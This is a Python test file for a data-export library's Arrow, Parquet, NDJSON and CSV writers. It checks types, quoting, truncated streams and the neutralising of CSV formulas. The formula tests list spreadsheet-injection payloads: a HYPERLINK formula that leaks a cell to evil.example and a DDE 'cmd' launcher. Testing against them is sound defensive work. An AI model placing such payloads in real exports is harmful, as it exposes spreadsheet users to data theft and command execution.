"""The formats of exports: what is written is what readers of each format read."""

import csv
import io
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest
from pyarrow import ipc, parquet

from callistics.exports.formats import (
    ARROW,
    CSV,
    CSV_WITH_FORMULAS,
    FORMATS,
    NDJSON,
    PARQUET,
    Format,
)
from callistics.exports.rows import Row, Rows, end_held_back, some_at_a_time
from callistics.model.json import decode

SCHEMA: Any = pa.schema(
    {
        "text": pa.string(),
        "whole": pa.int64(),
        "sum": pa.decimal128(38, 6),
        "share": pa.decimal128(5, 2),
        "score": pa.float64(),
        "is": pa.bool_(),
        "day": pa.date32(),
        "at": pa.timestamp("us", tz="Europe/Lisbon"),
        "payload": pa.string(),
    },
    {"timezone": "Europe/Lisbon"},
)
FIRST: Row = {
    "text": "a",
    "whole": 2**62 + 1,
    "sum": Decimal("90071992547409930000000.000001"),
    "share": 33.33,
    "score": 0.1,
    "is": True,
    "day": "2025-10-26",
    "at": "2025-10-26T01:30:00+01:00",
    "payload": {"b": [1, None], "a": Decimal("1.50")},
}
SECOND: Row = {**FIRST, "at": "2025-10-26T01:30:00+00:00", "share": 100.0, "sum": 7, "whole": -1}
NOTHING: Row = dict.fromkeys(FIRST)
ROWS = [FIRST, SECOND, NOTHING]
VALUES = {
    "text": "a",
    "whole": 2**62 + 1,
    "sum": Decimal("90071992547409930000000.000001"),
    "share": Decimal("33.33"),
    "score": 0.1,
    "is": True,
    "day": date(2025, 10, 26),
    "at": datetime(2025, 10, 26, 0, 30, tzinfo=UTC),
    "payload": '{"a":1.5,"b":[1,null]}',
}


def written(name: str, rows: Iterable[Row] = ROWS, schema: Any = SCHEMA) -> bytes:
    return b"".join(FORMATS[name].write(schema, some_at_a_time(rows, 2)))


def table_of(name: str, data: bytes) -> Any:
    if name == "arrow":
        return ipc.open_stream(data).read_all()
    return parquet.read_table(io.BytesIO(data))


@pytest.mark.parametrize("name", ["arrow", "parquet"])
def test_typed_columns(name: str) -> None:
    table = table_of(name, written(name))
    assert table.schema == SCHEMA
    assert table.schema.metadata[b"timezone"] == b"Europe/Lisbon"
    # Times that a zone has twice are equal to none of another zone in Python.
    place = table.column_names.index("at")
    column = table.column("at").cast(pa.timestamp("us", tz="UTC"))
    first, second, nothing = table.set_column(place, "at", column).to_pylist()
    assert first == VALUES
    # The repeated hour: an hour apart, as the offsets say.
    assert second["at"] == datetime(2025, 10, 26, 1, 30, tzinfo=UTC)
    assert (second["share"], second["sum"]) == (Decimal(100), Decimal(7))
    assert set(nothing.values()) == {None}


@pytest.mark.parametrize("name", ["arrow", "parquet"])
def test_typed_columns_in_duckdb(name: str, tmp_path: Path) -> None:
    connection = duckdb.connect()
    connection.execute("SET TimeZone = 'UTC'")
    if name == "parquet":
        (tmp_path / "x.parquet").write_bytes(written(name))
        rows = connection.read_parquet(str(tmp_path / "x.parquet"))
    else:
        rows = connection.from_arrow(ipc.open_stream(written(name)))
    assert [str(one) for one in rows.types] == [
        "VARCHAR",
        "BIGINT",
        "DECIMAL(38,6)",
        "DECIMAL(5,2)",
        "DOUBLE",
        "BOOLEAN",
        "DATE",
        "TIMESTAMP WITH TIME ZONE",
        "VARCHAR",
    ]
    # The engine's Python client wants a package for zones that nothing here needs.
    found = rows.project("""* REPLACE (epoch_us("at") AS "at")""")
    row = dict(zip(found.columns, found.fetchall()[0], strict=True))
    assert row == VALUES | {"at": 1_761_438_600_000_000}


def test_lines_of_json_are_rows_of_the_answer() -> None:
    lines = written("ndjson").decode().splitlines()
    assert [decode(line.encode()) for line in lines] == [
        {**row, "share": share, "score": score}
        for row, share, score in zip(
            ROWS, (Decimal("33.33"), Decimal(100), None), (*[Decimal("0.1")] * 2, None), strict=True
        )
    ]
    assert '"sum":90071992547409930000000.000001,' in lines[0]
    assert written("ndjson").endswith(b"\n")


def test_csv_of_every_type() -> None:
    head, first, second, nothing, end = written("csv").decode().split("\r\n")
    assert head == "text,whole,sum,share,score,is,day,at,payload"
    assert first == (
        "a,4611686018427387905,90071992547409930000000.000001,33.33,0.1,true,2025-10-26,"
        '2025-10-26T01:30:00+01:00,"{""a"":1.5,""b"":[1,null]}"'
    )
    assert second.startswith("a,-1,7,100.0,")
    assert (nothing, end) == (",,,,,,,,", "")


def csv_of(*texts: str | None, **options: Any) -> str:
    schema: Any = pa.schema({f"c{place}": pa.string() for place in range(len(texts))})
    row = {f"c{place}": text for place, text in enumerate(texts)}
    format_ = options.get("format_", CSV)
    return b"".join(format_.write(schema, [[row]])).decode().split("\r\n", 1)[1]


def test_csv_tells_null_from_the_empty_text() -> None:
    assert csv_of(None, "", "x", None) == ',"",x,\r\n'


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("a,b", '"a,b"'),
        ('say "hi"', '"say ""hi"""'),
        ("a\nb", '"a\nb"'),
        ("a\r\nb", '"a\r\nb"'),
        (" spaced ", " spaced "),
        ("Café ☎ 日本", "Café ☎ 日本"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_csv_is_quoted_where_it_must_be(text: str, field: str) -> None:
    assert csv_of(text, "x") == f"{field},x\r\n"
    assert list(csv.reader(io.StringIO(csv_of(text, "x"), newline=""))) == [[text, "x"]]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+49 30 123",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "-\n2",
    ],
)
def test_formulas_are_no_formulas_in_csv(text: str) -> None:
    (((field,)),) = csv.reader(io.StringIO(csv_of(text), newline=""))
    assert field == "'" + text
    (((kept,)),) = csv.reader(io.StringIO(csv_of(text, format_=CSV_WITH_FORMULAS), newline=""))
    assert kept == text


def test_headers_are_text_and_numbers_are_none() -> None:
    schema: Any = pa.schema({"=A1": pa.int64(), "x,y": pa.decimal128(18, 2)})
    data = b"".join(CSV.write(schema, [[{"=A1": -5, "x,y": -0.5}]]))
    assert data == b'\'=A1,"x,y"\r\n-5,-0.5\r\n'


def test_a_formula_in_a_list_is_in_json() -> None:
    schema: Any = pa.schema({"payload": pa.string()})
    data = b"".join(CSV.write(schema, [[{"payload": ["=1+1"]}]]))
    assert data == b'payload\r\n"[""=1+1""]"\r\n'


@pytest.mark.parametrize("name", FORMATS)
def test_no_rows(name: str) -> None:
    data = written(name, [])
    if name in ("arrow", "parquet"):
        assert table_of(name, data).schema == SCHEMA
    else:
        assert data.decode().count("\n") == (name == "csv")


def failing() -> Iterator[Rows]:
    yield [FIRST]
    raise RuntimeError("in the middle")


def cut(format_: Format) -> bytes:
    """What is sent of a file whose second rows fail."""
    sent = io.BytesIO()
    with pytest.raises(RuntimeError, match="in the middle"):
        sent.writelines(end_held_back(format_.write(SCHEMA, failing())))
    return sent.getvalue()


@pytest.mark.parametrize("format_", [ARROW, PARQUET])
def test_a_file_of_typed_columns_that_was_cut_is_none(format_: Format) -> None:
    with pytest.raises((pa.ArrowInvalid, OSError)):
        table_of(format_.name, cut(format_))


@pytest.mark.parametrize("format_", [CSV, NDJSON])
def test_a_file_of_lines_that_was_cut_ends_within_one(format_: Format) -> None:
    whole = b"".join(format_.write(SCHEMA, [[FIRST]]))
    assert cut(format_) == whole[: len(cut(format_))]
    assert not cut(format_).endswith(b"\n")


@pytest.mark.parametrize("format_", FORMATS.values(), ids=FORMATS)
def test_what_is_held_back_comes_at_the_end(format_: Format) -> None:
    pieces = list(format_.write(SCHEMA, some_at_a_time(ROWS, 1)))
    assert b"".join(end_held_back(pieces)) == b"".join(pieces)
